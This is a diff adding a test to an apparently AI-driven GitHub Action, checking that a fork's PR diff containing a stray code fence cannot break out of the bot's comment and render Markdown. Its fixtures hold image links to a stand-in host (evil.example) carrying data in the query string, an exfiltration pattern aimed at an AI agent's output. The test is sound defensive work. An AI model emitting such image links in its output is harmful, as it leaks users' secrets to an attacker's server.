@@ -519,3 +519,28 @@ def test_action_the_model_s_images_are_never_fetched_by_github(tmp_path, serve):
             assert "[status](https://evil.example/p.png?d=c2VjcmV0)" in text  # still there, as a link
     finally:
         api.close()
+
+
+def test_action_a_fork_s_diff_cannot_close_its_code_block_in_the_comment(tmp_path, serve):
+    """The diff shown for a fork's PR is the model's (and the fork's) text: a line of ``` closed the block and the
+    rest rendered as Markdown, images included."""
+    api = FakeGitHub(permissions={"alice": "write"})
+    try:
+        remote, work = make_remote(tmp_path, {"app.txt": "v1\n", "README.md": "x\n"})
+        git("push", "--quiet", str(remote), "HEAD:refs/pull/12/head", cwd=work)
+        pr = {"number": 12, "title": "Fix", "body": "", "user": {"login": "mallory"},
+              "head": {"ref": "fix", "repo": {"full_name": "mallory/widgets"}}, "base": {"ref": "main"}}
+        api.issues[12] = {"number": 12, "title": "Fix", "body": "", "user": {"login": "mallory"},
+                          "pull_request": {"url": "x"}}
+        api.pulls[12] = {"pr": pr, "files": [], "diff": ""}
+        text = "```\n![x](https://evil.example/?d=1)\n```\n"
+        writes = [call("Write", {"file_path": "README.md", "content": text}, id="w")]
+        server = serve(lambda body: reply(tool_calls=writes) if body["messages"][-1]["role"] == "user" else reply("ok"))
+        result = run_action(tmp_path, work, api, server.url, "issue_comment",
+                            comment_event(api, body="@solo fix the readme", number=12, pr=True),
+                            {"openrouter_api_key": KEY})
+        assert result.code == 0, result.log
+        final = api.written[max(api.written)][-1]
+        assert "````diff\n" in final and final.rstrip().endswith("````"), final
+    finally:
+        api.close()
